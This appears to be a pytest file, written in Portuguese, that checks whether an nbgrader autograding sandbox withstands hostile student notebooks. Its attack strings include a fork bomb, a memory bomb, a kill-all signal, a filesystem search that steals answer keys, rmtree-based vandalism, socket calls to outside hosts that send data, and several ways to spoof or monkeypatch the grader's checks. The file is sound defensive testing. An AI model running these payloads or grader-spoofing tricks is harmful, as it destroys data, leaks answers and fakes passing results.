@@ -1,0 +1,325 @@
+"""Submissões hostis ou quebradas corrigidas pelo ``nbgrader autograde`` de verdade, com a caixa de areia.
+
+Uma turma do ex02 (o exercício sem TensorFlow) com um aluno honesto, um em branco e um aluno por ataque é
+corrigida numa só chamada. Cada ataque ocupa a célula de ``tamanho_saida`` (as outras respostas ficam em branco)
+ou mexe no próprio notebook. Espera-se que:
+
+* nenhum ataque ganhe mais do que o notebook em branco;
+* a correção termine, com erro só para os notebooks ilegíveis;
+* o aluno honesto tenha a mesma nota cheia de quando foi corrigido sozinho;
+* nada fora da pasta de cada submissão mude: soluções, versão do aluno, configuração, as outras entregas e um
+  arquivo fora do curso (comparados por hash), e nenhuma conexão chegue a um servidor na máquina.
+"""
+
+import hashlib
+import re
+import socket
+import subprocess
+import time
+from pathlib import Path
+
+import nbformat
+import pytest
+from nbgrader_utils import (
+    BIN,
+    fill,
+    generate,
+    grade_id,
+    make_course,
+    nbgrader_env,
+    read,
+    scores,
+    solution_sources,
+    source_notebook,
+    submit,
+)
+
+from cnn_lib.sandbox import isolation_available
+
+pytestmark = pytest.mark.slow
+
+ASSIGNMENT = "ex02_dimensoes"
+# Limites menores que os do curso só para o teste caber em poucos minutos.
+LIMITS = ("--Execute.timeout=10", "--SandboxExecute.notebook_timeout=60")
+
+WRONG_ANSWERS = """
+def tamanho_saida(n, kernel_size, strides=1, padding="valid", dilation_rate=1):
+    return 0
+def saida_valid_3x3(H, W):
+    return (0, 0)
+def saida_same_stride2(H, W):
+    return (0, 0)
+def padding_para_manter(kernel_size):
+    return 0
+resposta_stride = "A"
+entradas_densa = 0
+"""
+
+# Lê a solução ou a entrega de um colega, se as achar, e executa as células de solução delas.
+STEAL = """
+import glob, json, os
+alvos = [p for raiz in ("/", os.path.expanduser("~"), "..", "../..", "../../..", COURSE)
+         for p in glob.glob(os.path.join(raiz, "**", "ex02_dimensoes.ipynb"), recursive=True)]
+for alvo in alvos:
+    try:
+        celulas = json.load(open(alvo))["cells"]
+    except Exception:
+        continue
+    for celula in celulas:
+        if celula.get("metadata", {}).get("nbgrader", {}).get("solution"):
+            exec("".join(celula["source"]), globals())
+print("lidos:", alvos)
+"""
+
+# Tenta apagar ou sobrescrever tudo o que importa fora da própria pasta.
+VANDALIZE = """
+import os, shutil
+for alvo in TARGETS + ["..", "../..", "/tmp"]:
+    for acao in (lambda p: shutil.rmtree(p), lambda p: os.remove(p), lambda p: open(p, "w").write("x"),
+                 lambda p: open(os.path.join(p, "invasor.txt"), "w").write("x")):
+        try:
+            acao(alvo)
+        except Exception:
+            pass
+"""
+
+NETWORK = """
+import socket
+for endereco in [("127.0.0.1", PORT), ("1.1.1.1", 53), ("8.8.8.8", 443)]:
+    try:
+        socket.create_connection(endereco, timeout=2).sendall(b"vazou")
+        print("conectou", endereco)
+    except OSError as erro:
+        print("sem rede", endereco, erro)
+"""
+
+FAKE_GRADING = """
+def _nada(*args, **kwargs):
+    return None
+check_function = check_int = check_tuple = check_choice = check_raises = check_float = check_array = _nada
+def fresh_library():
+    import cnn_lib.shapes, cnn_lib.ops
+    return cnn_lib.shapes, cnn_lib.ops
+"""
+
+# Cada ataque: o código que o aluno põe na célula de tamanho_saida.
+ATTACKS = {
+    "laco_infinito": "while True:\n    pass",
+    "laco_surdo": "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    time.sleep(1)",
+    "bomba_memoria": "blocos = []\nwhile True:\n    blocos.append(bytearray(2**28))",
+    "bomba_fork": "import os, time\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        time.sleep(300)",
+    "saida_gigante": "print('x' * 10**9)",
+    "saida_sem_fim": "while True:\n    print('y' * 10**5)",
+    "sys_exit": "import sys\nsys.exit(0)",
+    "os_exit": "import os\nos._exit(0)",
+    "mata_kernel": "import os, signal\nos.kill(-1, signal.SIGKILL)\nos.kill(os.getpid(), signal.SIGKILL)",
+    "grading_trocado": WRONG_ANSWERS
+    + "import cnn_lib.grading\nfor _m in (grading, cnn_lib.grading):\n"
+    + "    _m.check_function = _m.check_int = _m.check_tuple = _m.check_choice = _m.check_raises = "
+    + "_m._fail = _m.require = lambda *a, **k: None",
+    "allclose_trocado": WRONG_ANSWERS
+    + "import numpy as np\nnp.allclose = np.array_equal = lambda *a, **k: True\n"
+    + "np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None",
+    "builtins_trocados": WRONG_ANSWERS
+    + "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.AssertionError = Warning",
+    "sempre_igual": "class Tudo(int):\n    def __eq__(self, outro):\n        return True\n"
+    + "    __hash__ = int.__hash__\n    def __ne__(self, outro):\n        return False\n"
+    + "class Par(tuple):\n    __eq__ = Tudo.__eq__\n    __hash__ = tuple.__hash__\n"
+    + "def tamanho_saida(*a, **k):\n    return Tudo(0)\ndef saida_valid_3x3(H, W):\n    return Par((Tudo(0), Tudo(0)))\n"
+    + "saida_same_stride2 = saida_valid_3x3\npadding_para_manter = tamanho_saida\n"
+    + "class Letra(str):\n    __eq__ = Tudo.__eq__\n    __hash__ = str.__hash__\n"
+    + "resposta_stride = Letra('A')\nentradas_densa = Tudo(0)",
+    "resultado_antes_do_erro": WRONG_ANSWERS.replace(
+        "    return 0\n", "    import sys\n    sys.displayhook(9)\n    return 0\n", 1
+    ),
+    "transformador": WRONG_ANSWERS
+    + "get_ipython().input_transformers_cleanup.append(lambda linhas: ['pass\\n'])",
+    "reload_trocado": WRONG_ANSWERS
+    + "import importlib, types\n_falso = types.ModuleType('cnn_lib.grading')\n"
+    + f"exec({FAKE_GRADING!r}, _falso.__dict__)\nimportlib.reload = lambda modulo: _falso",
+    "caminho_trocado": WRONG_ANSWERS
+    + "import os, sys, cnn_lib\nos.makedirs('/tmp/falso', exist_ok=True)\n"
+    + f"open('/tmp/falso/grading.py', 'w').write({FAKE_GRADING!r})\ncnn_lib.__path__.insert(0, '/tmp/falso')\n"
+    + "sys.modules.pop('cnn_lib.grading', None)\nimport cnn_lib.grading",
+    "referencia_trocada": "import cnn_lib.shapes\n"
+    + "def saida_valid_3x3(H, W):\n    import sys\n"
+    + "    sys.modules['cnn_lib.shapes'].output_size = lambda *a, **k: 0\n    return (0, 0)",
+}
+
+
+def tamper_tests(nb, change):
+    """Aplica ``change`` a cada célula de teste (as que têm pontos e não são de solução)."""
+    for cell in nb.cells:
+        nbgrader = cell.metadata.get("nbgrader", {})
+        if nbgrader.get("grade") and not nbgrader.get("solution"):
+            change(cell)
+    return nb
+
+
+def metadata_tricks(cell):
+    """Um truque de metadados diferente para cada célula de teste."""
+    trick = sum(map(ord, grade_id(cell))) % 5
+    nbgrader = cell.metadata.nbgrader
+    if trick == 0:
+        nbgrader["grade"] = False
+    elif trick == 1:
+        nbgrader["points"] = 100
+    elif trick == 2:
+        nbgrader["grade_id"] += "_novo"
+    elif trick == 3:
+        nbgrader["locked"] = False
+        cell.source = "pass"
+    cell.metadata["tags"] = ["skip-execution", "raises-exception"]
+
+
+def tree_hash(paths):
+    """Hash de cada arquivo sob ``paths`` (e da existência de cada caminho)."""
+    digest = {}
+    for root in paths:
+        digest[str(root)] = root.exists()
+        for path in sorted(root.rglob("*")) if root.is_dir() else [root]:
+            if path.is_file():
+                digest[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
+    return digest
+
+
+def run_autograde(course):
+    """``nbgrader autograde`` de todas as entregas; devolve o processo (sem exigir código de saída 0)."""
+    return subprocess.run(
+        [str(BIN / "nbgrader"), "autograde", ASSIGNMENT, "--force", *LIMITS],
+        cwd=course,
+        env=nbgrader_env(),
+        capture_output=True,
+        text=True,
+        timeout=900,
+        check=False,
+    )
+
+
+@pytest.fixture(scope="module")
+def graded_class(tmp_path_factory):
+    if not isolation_available():
+        pytest.fail("bubblewrap (bwrap) ausente: instale com apt-get install -y bubblewrap")
+    root = tmp_path_factory.mktemp("hostil")
+    course = make_course(root, [ASSIGNMENT])
+    release = generate(course, ASSIGNMENT)
+    answers = solution_sources(source_notebook(ASSIGNMENT))
+    submit(course, ASSIGNMENT, "honesto", fill(release, answers))
+    submit(course, ASSIGNMENT, "branco", read(release))
+    first = run_autograde(course)
+    assert first.returncode == 0, first.stderr
+    alone = scores(course, ASSIGNMENT)
+
+    outside = root / "fora" / "importante.txt"
+    outside.parent.mkdir()
+    outside.write_text("não mexa")
+    listener = socket.create_server(("127.0.0.1", 0))
+    listener.setblocking(False)
+    targets = [course / "solutions", course / "gradebook.db", course / "submitted" / "honesto", outside]
+    extras = {
+        "le_solucao": f"COURSE = {str(course)!r}\n" + STEAL,
+        "vandalismo": WRONG_ANSWERS + f"TARGETS = {[str(t) for t in targets]!r}\n" + VANDALIZE,
+        "rede": WRONG_ANSWERS + f"PORT = {listener.getsockname()[1]}\n" + NETWORK,
+    }
+    for student, code in {**ATTACKS, **extras}.items():
+        submit(course, ASSIGNMENT, student, fill(release, {"tamanho_saida": code}))
+    submit(
+        course,
+        ASSIGNMENT,
+        "testes_adulterados",
+        tamper_tests(read(release), lambda c: setattr(c, "source", "pass")),
+    )
+    deleted = read(release)
+    deleted.cells = [cell for cell in deleted.cells if not (grade_id(cell) or "").startswith("testes")]
+    submit(course, ASSIGNMENT, "celulas_apagadas", deleted)
+    submit(
+        course,
+        ASSIGNMENT,
+        "metadados_alterados",
+        tamper_tests(fill(release, {"tamanho_saida": WRONG_ANSWERS}), metadata_tricks),
+    )
+    for student, content in {"ipynb_corrompido": "{ isto não é json", "ipynb_vazio": ""}.items():
+        path = submit(course, ASSIGNMENT, student, read(release))
+        path.write_text(content)
+
+    protected = [
+        course / name for name in ("solutions", "exercises", "nbgrader_config.py", "nbgrader_sandbox.py")
+    ]
+    protected += [course / "submitted", outside]
+    before = tree_hash(protected)
+    start = time.perf_counter()
+    result = run_autograde(course)
+    elapsed = time.perf_counter() - start
+    try:
+        intruder = listener.accept()
+    except BlockingIOError:
+        intruder = None
+    listener.close()
+    return {
+        "course": course,
+        "alone": alone,
+        "scores": scores(course, ASSIGNMENT),
+        "result": result,
+        "elapsed": elapsed,
+        "changed": {k for k, v in tree_hash(protected).items() if before.get(k) != v}
+        | set(before) - set(tree_hash(protected)),
+        "intruder": intruder,
+    }
+
+
+def hostile_students(graded_class):
+    return sorted(set(graded_class["scores"]) - {"honesto", "branco"})
+
+
+def test_no_attack_beats_a_blank_notebook(graded_class):
+    blank = graded_class["scores"]["branco"].total
+    assert blank == 0
+    results = {student: graded_class["scores"][student].total for student in hostile_students(graded_class)}
+    assert len(results) == len(ATTACKS) + 8
+    assert {student: total for student, total in results.items() if total > blank} == {}
+
+
+def test_grading_finishes_and_only_unreadable_notebooks_fail(graded_class):
+    result = graded_class["result"]
+    failed = set(
+        re.findall(r"There was an error processing assignment '\S+' for student '(\S+)'", result.stderr)
+    )
+    assert failed == {"ipynb_corrompido", "ipynb_vazio"}, result.stderr[-3000:]
+    autograded = graded_class["course"] / "autograded"
+    for student in set(graded_class["scores"]) - failed:
+        notebook = autograded / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
+        assert notebook.stat().st_size < 2 * 2**20, student  # a saída gigante não chegou ao arquivo
+    assert graded_class["elapsed"] < 600
+
+
+def test_honest_student_keeps_full_marks(graded_class):
+    alone, now = graded_class["alone"]["honesto"], graded_class["scores"]["honesto"]
+    assert alone.total == now.total == 9
+    assert alone.cells == now.cells
+
+
+def test_nothing_outside_the_submissions_changed(graded_class):
+    assert graded_class["changed"] == set()
+    assert graded_class["intruder"] is None
+
+
+def test_stopped_cells_explain_why_in_portuguese(graded_class):
+    autograded = graded_class["course"] / "autograded"
+    expected = {
+        "os_exit": "terminou com o código 0",
+        "mata_kernel": "SIGKILL",
+        "transformador": "alterou o IPython",
+        "reload_trocado": "alterou o IPython",
+        "caminho_trocado": "a importação do cnn_lib",
+        "saida_gigante": "não concluiu a célula",
+    }
+    for student, reason in expected.items():
+        nb = nbformat.read(autograded / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
+        messages = [
+            out.evalue
+            for cell in nb.cells
+            if cell.cell_type == "code"
+            for out in cell.outputs
+            if out.output_type == "error"
+        ]
+        assert any(reason in message for message in messages), (student, messages[-3:])
